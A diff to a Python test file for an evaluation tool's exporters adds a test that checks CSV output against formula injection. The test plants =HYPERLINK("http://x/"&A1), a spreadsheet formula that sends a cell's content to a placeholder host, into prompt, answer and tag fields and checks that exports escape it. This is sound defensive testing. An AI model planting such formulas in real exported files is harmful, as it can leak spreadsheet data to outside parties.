@@ -1,16 +1,20 @@
 """Answers in other tools' formats; read by these tools where they are installed (`make test-lmms-eval`)."""
 
+import csv
 import importlib.util
 import json
+import math
 import re
 
 import numpy as np
 import pandas as pd
 import pytest
 
+import bridgelab
 from bridgelab.cli import main as cli
 from bridgelab.export import FORMATS
 from bridgelab.export.write import export
+from bridgelab.report.frames import write_frames
 from bridgelab.runs.predictions import read_rows
 
 
@@ -160,6 +164,29 @@ def test_a_table_has_all_answers_of_all_seeds(study, run):
     assert set(table["seed"]) == {0, 1}
     own = table[(table["run"] == run.name) & (table["view"] == "image") & (table["kind"] == "answer")]
     assert own["score"].tolist() == questions(run)["score"].tolist()
+
+
+def test_no_cell_of_a_table_is_a_formula(study, run):
+    """Prompts, answers and tags are those of the data, and of whoever sent the study."""
+    path, formula = run / "predictions.parquet", '=HYPERLINK("http://x/"&A1)'
+    rows = pd.read_parquet(path).assign(tag_case=formula)
+    rows.loc[0, ["prompt", "prediction"]] = formula
+    rows.to_parquet(path)
+    read = bridgelab.read_study(study)
+    for table in (*export(study, "csv"), *export(run, "csv"), write_frames(read, read.answers)[2]):
+        head, *cells = csv.reader(table.read_text().splitlines())
+        (row,) = [row for row in cells if row[head.index("prediction")].endswith(formula)]
+        assert row.count(f"'{formula}") == 3
+        texts = (cell for row in (head, *cells) for cell in row)
+        assert {cell for cell in texts if cell[:1] in tuple("=+@-") and not _is_number(cell)} == set()
+    assert formula in set(pd.read_parquet(study / "answers.parquet")["prediction"])
+
+
+def _is_number(cell):
+    try:
+        return math.isfinite(float(cell))
+    except ValueError:
+        return False
 
 
 def test_the_command_prints_the_paths(run, tmp_path, capsys):
